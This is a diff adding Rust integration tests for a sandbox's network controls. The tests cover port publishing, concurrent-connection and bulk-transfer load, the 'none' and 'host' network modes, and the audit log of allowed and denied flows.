+    assert_deny_event(&env, Some("other.example.test"), p);
+    if static_ok {
+        let out = String::from_utf8_lossy(&o.stdout);
+        assert!(out.contains("static-hello\nSTATIC 0"), "{}", show(&o));
+        assert!(out.contains("connect: "), "{}", show(&o));
+        assert!(out.contains("STATIC 4"), "{}", show(&o));
+        assert_eq!(echo.count("CONN"), 2, "{}", echo.log());
+    } else {
+        assert_eq!(echo.count("CONN"), 1, "{}", echo.log());
+    }
+});
+
+// ---- 8. [[publish]] --------------------------------------------------------------------------
+
+/// GET / from 127.0.0.1:port on the host; the body if it answered.
+fn host_get(port: u16) -> Option<String> {
+    let addr = SocketAddr::from(([127, 0, 0, 1], port));
+    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
+    s.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
+    s.write_all(b"GET /index.html HTTP/1.0\r\nHost: localhost\r\n\r\n")
+        .ok()?;
+    let mut b = String::new();
+    let _ = s.read_to_string(&mut b);
+    Some(b)
+}
+
+both!(publish_exposes_a_server_started_inside, |env: Env| {
+    setup(&env);
+    let host_port = free_port();
+    let inside = 18080;
+    let token = format!("published-{}", random_label());
+    env.write("www/index.html", &token);
+    let pol = policy(
+        &env,
+        &format!("[[publish]]\nport = {inside}\nhost_port = {host_port}\n"),
+    );
+    let script = format!(
+        "(cd www && exec {PY} -m http.server --bind 127.0.0.1 {inside} >/dev/null 2>&1) & \
+         i=0; while [ ! -e published.done ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done; \
+         kill $! 2>/dev/null; echo waited $i"
+    );
+    let child = spawn_run(&env, &pol, &script);
+    let end = Instant::now() + Duration::from_secs(20);
+    let mut last = None;
+    while Instant::now() < end {
+        last = host_get(host_port);
+        if last.as_deref().is_some_and(|b| b.contains(&token)) {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    std::fs::write(env.project.join("published.done"), "").unwrap();
+    let o = wait_limited(child, Duration::from_secs(60));
+    assert!(
+        last.as_deref().is_some_and(|b| b.contains(&token)),
+        "127.0.0.1:{host_port} never served the page (last answer {last:?})\n{}",
+        show(&o)
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", show(&o));
+    // Gone with the session.
+    assert!(
+        TcpStream::connect(("127.0.0.1", host_port)).is_err(),
+        "the published port outlived the session"
+    );
+});
+
+// ---- 9. load -------------------------------------------------------------------------------
+
+both!(two_hundred_concurrent_connections, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let name = "echo.example.test";
+    let pol = named(&[name], &[(name, &[echo.port])], "");
+    let o = run(&env, &pol, &nc(&format!("many {name} {} 200", echo.port)));
+    let r = ok_results(&o, 1);
+    assert_eq!(r[0]["ok"], 200, "{}", show(&o));
+    assert_eq!(echo.count("CONN"), 200, "{}", show(&o));
+});
+
+both!(one_gib_transfer_keeps_its_checksum, |env: Env| {
+    setup(&env);
+    // CORDON_TEST_NET_BYTES shrinks it for a quick local run; the issue asks for 1 GiB.
+    let bytes: u64 = std::env::var("CORDON_TEST_NET_BYTES")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(1 << 30);
+    let srv = Server::start(&["stream", &bytes.to_string(), "1234"]);
+    let name = "bulk.example.test";
+    let pol = named(&[name], &[(name, &[srv.port])], "");
+    let o = run_limited(
+        &env,
+        &pol,
+        &format!("timeout 500 {PY} nc.py sha {name} {}", srv.port),
+        Duration::from_secs(600),
+    );
+    let r = ok_results(&o, 1);
+    assert_eq!(r[0]["bytes"], bytes, "{}", show(&o));
+    assert_eq!(r[0]["sha256"], srv.extra.as_str(), "{}", show(&o));
+    let ms = r[0]["ms"].as_u64().unwrap_or(0).max(1);
+    eprintln!(
+        "{bytes} bytes in {ms} ms: {:.2} Gbit/s",
+        bytes as f64 * 8.0 / ms as f64 / 1e6
+    );
+});
+
+// ---- 10. modes -------------------------------------------------------------------------------
+
+both!(mode_none_has_no_network, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let p = echo.port;
+    // A rule is present and still nothing goes out.
+    let pol = format!(
+        "[network]\nmode = \"none\"\n\
+         [[network.allow]]\nhost = \"host.cordon.internal\"\nports = [{p}]\n"
+    );
+    let script = [
+        nc(&format!("connect host.cordon.internal {p} hi")),
+        nc("connect 198.18.0.1 3128"),
+        nc(&format!("connect 127.0.0.1 {p} hi")),
+        "getent ahostsv4 example.test >/dev/null 2>&1; echo RESOLVE $?".to_string(),
+        "awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print $1 }' /proc/net/dev | tr '\\n' ' '; echo"
+            .to_string(),
+    ]
+    .join("\n");
+    let o = run(&env, &pol, &script);
+    let r = ok_results(&o, 3);
+    for (i, what) in ["host alias", "the gateway's proxy", "127.0.0.1"]
+        .iter()
+        .enumerate()
+    {
+        assert_ne!(r[i]["result"], "connected", "{what}\n{}", show(&o));
+    }
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(!out.contains("RESOLVE 0"), "{}", show(&o));
+    assert_eq!(
+        out.lines().last().map(str::trim),
+        Some("lo"),
+        "{}",
+        show(&o)
+    );
+    assert_eq!(echo.count("CONN"), 0, "{}", echo.log());
+});
+
+both!(
+    mode_host_shares_the_host_network_with_a_warning,
+    |env: Env| {
+        setup(&env);
+        let echo = Server::echo();
+        let o = run(
+            &env,
+            "[network]\nmode = \"host\"\n",
+            &nc(&format!("connect 127.0.0.1 {} hi", echo.port)),
+        );
+        let r = ok_results(&o, 1);
+        assert_connected(&r[0], "hi", "host mode reaches the host's loopback", &o);
+        let err = String::from_utf8_lossy(&o.stderr).to_lowercase();
+        assert!(err.contains("warning"), "{}", show(&o));
+        assert!(
+            err.contains("network"),
+            "the warning says what: {}",
+            show(&o)
+        );
+    }
+);
+
+// ---- 11. events ------------------------------------------------------------------------------
+
+both!(events_record_allowed_and_denied_flows, |env: Env| {
+    setup(&env);
+    let echo = Server::echo();
+    let p = echo.port;
+    let name = "echo.example.test";
+    let pol = named(&[name], &[(name, &[p])], "");
+    let payload = "x".repeat(1000);
+    let o = run(
+        &env,
+        &pol,
+        &[
+            nc(&format!("connect {name} {p} {payload}")),
+            nc(&format!("connect {name} 6667")),
+        ]
+        .join("\n"),
+    );
+    let r = ok_results(&o, 2);
+    assert_connected(&r[0], &payload, "allowed", &o);
+    assert_refused_fast(&r[1], "denied", &o);
+    let fake = r[0]["addr"].as_str().unwrap().to_string();
+
+    let audit = env.audit.to_str().unwrap().to_string();
+    let lo = env
+        .cordon()
+        .args(["log", "--file", &audit, "--json"])
+        .output()
+        .unwrap();
+    assert_eq!(lo.status.code(), Some(0), "{}", show(&lo));
+    let evs: Vec<Value> = String::from_utf8_lossy(&lo.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
+        .collect();
+    let log = net_log(&evs);
+
+    // DNS: the question and the synthetic answer.
+    assert!(
+        evs.iter().any(|e| e["layer"] == "dns"
+            && dstr(e, "name").is_some_and(|n| n.trim_end_matches('.') == name)
+            && dstr(e, "qtype") == Some("A")
+            && e["detail"]["answer"].to_string().contains(&fake)),
+        "no dns event answering {name} with {fake}:\n{log}"
+    );
+    // The allowed flow: rule, protocol, bytes each way, duration.
+    let allowed: Vec<&Value> = evs
+        .iter()
+        .filter(|e| e["layer"] == "network" && dstr(e, "host") == Some(name))
+        .filter(|e| du64(e, "port") == Some(p.into()))
+        .collect();
+    assert!(
+        allowed
+            .iter()
+            .any(|e| e["action"] == "allow" && e["rule"].as_str().is_some_and(|r| !r.is_empty())),
+        "no allow event with a rule:\n{log}"
+    );
+    assert!(allowed.iter().all(|e| e["action"] != "deny"), "{log}");
+    let max = |k: &str| allowed.iter().filter_map(|e| du64(e, k)).max();
+    assert!(
+        max("bytes_up").is_some_and(|b| b >= 1000),
+        "bytes_up:\n{log}"
+    );
+    assert!(
+        max("bytes_down").is_some_and(|b| b >= 1000),
+        "bytes_down:\n{log}"
+    );
+    assert!(max("duration_ms").is_some(), "duration_ms:\n{log}");
+    assert!(
+        allowed
+            .iter()
+            .any(|e| dstr(e, "proto").is_some() && dstr(e, "addr").is_some()),
+        "proto/addr:\n{log}"
+    );
+    for e in &allowed {
+        if let Some(c) = dstr(e, "cmdline") {
+            assert!(c.contains("nc.py"), "cmdline names the wrong process: {e}");
+        }
+    }
+    // The denied one.
+    let denied = net_event(&evs, "deny", Some(name), 6667);
+    assert!(!denied.is_empty(), "no deny event for port 6667:\n{log}");
+    assert!(
+        denied[0]["rule"].as_str().is_some_and(|r| !r.is_empty()),
+        "{log}"
+    );
+
+    // Readable form and an intact hash chain.
+    let lo = env
+        .cordon()
+        .args(["log", "--file", &audit])
+        .output()
+        .unwrap();
+    let human = String::from_utf8_lossy(&lo.stdout);
+    assert!(
+        human.contains("[network] allow") && human.contains("[network] deny"),
+        "{human}"
+    );
+    let lo = env
+        .cordon()
+        .args(["log", "--file", &audit, "--verify"])
+        .output()
+        .unwrap();
+    assert_eq!(lo.status.code(), Some(0), "{}", show(&lo));
+});
